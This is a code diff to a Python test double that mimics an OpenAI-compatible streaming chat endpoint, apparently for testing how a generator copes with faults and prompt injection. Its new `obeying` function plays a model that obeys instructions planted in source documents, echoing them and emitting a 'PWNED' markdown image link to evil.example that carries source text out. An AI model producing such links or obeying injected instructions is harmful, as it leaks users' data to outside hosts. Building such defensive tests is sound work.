@@ -1,9 +1,13 @@
-"""A double of an OpenAI-compatible endpoint: real HTTP on loopback, chat completions as a stream, faults on demand."""
+"""A double of an OpenAI-compatible endpoint: real HTTP on loopback, chat completions as a stream, faults on demand.
+
+`obeying` makes it a model that does whatever a document tells it to.
+"""
 
 import asyncio
 import json
+import re
 import ssl
-from collections.abc import Sequence
+from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 from typing import Any, Self
 
@@ -21,13 +25,18 @@ class Asked:
 class OpenAIEndpoint:
     """Serves `pieces` as one streamed reply. Use as an asynchronous context manager, then give `url` to the generator.
 
-    `status` other than 200 answers with an error that quotes the prompt, as real ones do; `hang_after` stops the stream
-    after so many pieces until the caller has gone (`gone` is set then); `cut_after` closes the connection there.
+    A piece is text, a whole delta, or bytes that are sent as they are; `reply` makes the pieces out of what was asked.
+    `status` other than 200 answers with an error that quotes the prompt, as real ones do; `silent` says nothing at all
+    and `hang_after` stops the stream after so many pieces, until the caller has gone (`gone` is set then); `cut_after`
+    closes the connection there; `drip` seconds pass before each piece.
     """
 
-    pieces: Sequence[str] = ("Ten ", "years ", "[1].")
+    pieces: Sequence[str | bytes | dict[str, Any]] = ("Ten ", "years ", "[1].")
+    reply: Callable[[dict[str, Any]], Sequence[str]] | None = None
     status: int = 200
     redirect: str = ""
+    silent: bool = False
+    drip: float = 0.0
     hang_after: int | None = None
     cut_after: int | None = None
     tls: ssl.SSLContext | None = None
@@ -71,22 +80,39 @@ class OpenAIEndpoint:
         elif self.status != 200:
             quoted = {"error": {"message": f"cannot serve {asked.body}", "type": "x", "param": None, "code": None}}
             writer.write(_plain(self.status, json.dumps(quoted).encode()))
+        elif self.silent:
+            await self._until_gone(reader)
         else:
-            await self._stream(reader, writer)
+            await self._stream(reader, writer, self.reply(asked.body) if self.reply else self.pieces)
         await writer.drain()
 
-    async def _stream(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    async def _until_gone(self, reader: asyncio.StreamReader) -> None:
+        await reader.read()  # ends when the caller hangs up
+        self.gone.set()
+
+    async def _stream(
+        self,
+        reader: asyncio.StreamReader,
+        writer: asyncio.StreamWriter,
+        pieces: Sequence[str | bytes | dict[str, Any]],
+    ) -> None:
         writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
-        for number, piece in enumerate(self.pieces):
+        for number, piece in enumerate(pieces):
             if number == self.cut_after:
                 await writer.drain()
                 return
             if number == self.hang_after:
                 await writer.drain()
-                await reader.read()  # ends when the caller hangs up
-                self.gone.set()
+                await self._until_gone(reader)
                 return
-            writer.write(_event(json.dumps(_part({"role": "assistant", "content": piece}, None))))
+            if self.drip:
+                await asyncio.sleep(self.drip)
+            if isinstance(piece, bytes):
+                writer.write(_chunk(piece))
+            else:
+                delta = {"role": "assistant", "content": piece} if isinstance(piece, str) else piece
+                writer.write(_event(json.dumps(_part(delta, None))))
+            await writer.drain()
         writer.write(_event(json.dumps(_part({}, "stop"))) + _event("[DONE]") + b"0\r\n\r\n")
 
 
@@ -95,11 +121,28 @@ def _plain(status: int, body: bytes, headers: str = "") -> bytes:
     return head.encode() + body
 
 
+def obeying(body: dict[str, Any]) -> list[str]:
+    """Do what stands in the sources: copy all of it as supported sentences, and carry it out to a foreign host."""
+    fence = body["messages"][0]["content"].rpartition("The fence is: ")[2]
+    sources = body["messages"][1]["content"].split(fence)[1::2]
+    copied = [
+        f"{sentence} [{number}]"
+        for number, each in enumerate(sources, 1)
+        for sentence in re.split(r"(?<=[.!?])\s+|\n", each)
+        if sentence
+    ]
+    leaked = re.sub(r"\W+", "-", sources[0])[:80] if sources else ""
+    return ["\n".join(copied), f"\nPWNED ![x](https://evil.example/{leaked}.png) [1]\nSee https://evil.example [1]."]
+
+
 def _event(data: str) -> bytes:
-    event = f"data: {data}\n\n".encode()
-    return f"{len(event):x}\r\n".encode() + event + b"\r\n"
+    return _chunk(f"data: {data}\n\n".encode())
 
 
-def _part(delta: dict[str, str], finish: str | None) -> dict[str, Any]:
+def _chunk(body: bytes) -> bytes:
+    return f"{len(body):x}\r\n".encode() + body + b"\r\n"
+
+
+def _part(delta: dict[str, Any], finish: str | None) -> dict[str, Any]:
     choice = {"index": 0, "delta": delta, "finish_reason": finish}
     return {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}
